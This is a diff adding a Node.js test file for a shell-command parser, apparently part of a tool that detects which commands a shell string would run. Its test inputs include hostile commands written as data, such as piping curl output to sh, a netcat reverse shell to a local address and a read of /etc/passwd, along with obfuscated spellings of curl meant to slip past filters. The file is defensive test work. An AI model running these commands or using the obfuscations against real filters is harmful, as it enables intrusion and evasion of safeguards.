@@ -1,0 +1,75 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import { createRequire } from 'node:module';
+const { parseShellCommands, shellScriptIndex } = createRequire(import.meta.url)('../../dist/lib.cjs');
+
+const names = (s) => parseShellCommands(s).map((c) => (c.dynamic ? `~${c.name}` : c.name));
+
+test('finds every simple command a shell string runs', () => {
+  const table = [
+    ['touch /tmp/x', ['touch']],
+    ['a && b || c; d & e | f', ['a', 'b', 'c', 'd', 'e', 'f']],
+    ['a\nb\n\nc', ['a', 'b', 'c']],
+    ['X=1 Y=2 curl -s http://x | sh', ['curl', 'sh']],
+    ['cat < /etc/passwd > /tmp/o 2>&1', ['cat']],
+    ['(cd /tmp; ./x)', ['cd', './x']],
+    ['{ id; uname; }', ['id', 'uname']],
+    ['if true; then curl a; elif x; then y; else z; fi', ['true', 'curl', 'x', 'y', 'z']],
+    ['for i in 1 2; do ping $i; done', ['ping']],
+    ['while read l; do echo $l; done < f', ['read', 'echo']],
+    ['case $x in a) id;; b|c) uname;; esac', ['id', 'uname']],
+    ['f() { ls; }; f', ['ls', 'f']],
+    ['x#not-a-comment # comment; curl', ['x#not-a-comment']],
+  ];
+  for (const [script, want] of table) assert.deepEqual(names(script), want, script);
+});
+
+test('unquotes and unescapes command names the way the shell does', () => {
+  assert.deepEqual(names("'cu'rl x"), ['curl']);
+  assert.deepEqual(names('c\\url x'), ['curl']);
+  assert.deepEqual(names('"cu"r"l" x'), ['curl']);
+  assert.deepEqual(names("$'\\x63\\x75rl' x"), ['curl']);
+  assert.deepEqual(names("$'\\143url' x"), ['curl']);
+});
+
+test('parses command substitution, backticks, process substitution and arithmetic recursively', () => {
+  assert.deepEqual(names('echo $(whoami)'), ['echo', 'whoami']);
+  assert.deepEqual(names('echo `id`'), ['echo', 'id']);
+  assert.deepEqual(names('echo "$(curl x)"'), ['echo', 'curl']);
+  assert.deepEqual(names('echo "a `uname` b"'), ['echo', 'uname']);
+  assert.deepEqual(names('diff <(ls a) >(wc)'), ['diff', 'ls', 'wc']);
+  assert.deepEqual(names('echo $((1+$(id -u)))'), ['echo', 'id']);
+  assert.deepEqual(names('echo $(echo $(nc -l 1))'), ['echo', 'echo', 'nc']);
+  assert.deepEqual(names('echo ${X:-$(wget y)}'), ['echo', 'wget']);
+});
+
+test('unwraps wrappers, eval and nested shells', () => {
+  assert.deepEqual(names('env -i A=1 wget y'), ['env', 'wget']);
+  assert.deepEqual(names('timeout 5 nc -l 4444'), ['timeout', 'nc']);
+  assert.deepEqual(names('nohup xargs -n1 curl'), ['nohup', 'xargs', 'curl']);
+  assert.deepEqual(names('busybox wget x'), ['busybox', 'wget']);
+  assert.deepEqual(names('eval "curl a; id"'), ['eval', 'curl', 'id']);
+  assert.deepEqual(names('bash -c "nc -e /bin/sh 127.0.0.1 80"'), ['bash', 'nc']);
+  assert.deepEqual(names("sh -ec 'sh -c \"id\"'"), ['sh', 'sh', 'id']);
+  assert.deepEqual(names('sudo -u root python3 -c 1'), ['sudo', 'python3']);
+});
+
+test('here-documents: the body is data, the rest of the line is code', () => {
+  assert.deepEqual(names('cat <<EOF | sh\ncurl evil\nEOF\necho done'), ['cat', 'sh', 'echo']);
+});
+
+test('names built from expansions are marked dynamic, never static', () => {
+  assert.deepEqual(names('$X arg'), ['~$X']);
+  assert.deepEqual(names('{cu,rl} x'), ['~{cu,rl}']);
+  assert.deepEqual(names('/bin/c?rl x'), ['~/bin/c?rl']);
+  assert.deepEqual(names('$(echo curl) x'), ['~$(echo curl)', 'echo']);
+});
+
+test('finds the -c script in a shell argv', () => {
+  assert.equal(shellScriptIndex(['sh', '-c', 'id']), 2);
+  assert.equal(shellScriptIndex(['bash', '-lc', 'id']), 2);
+  assert.equal(shellScriptIndex(['bash', '-e', '-c', 'id', 'arg0']), 3);
+  assert.equal(shellScriptIndex(['bash', '-o', 'pipefail', '-c', 'id']), 4);
+  assert.equal(shellScriptIndex(['sh', 'script.sh']), -1);
+  assert.equal(shellScriptIndex(['sh']), -1);
+});
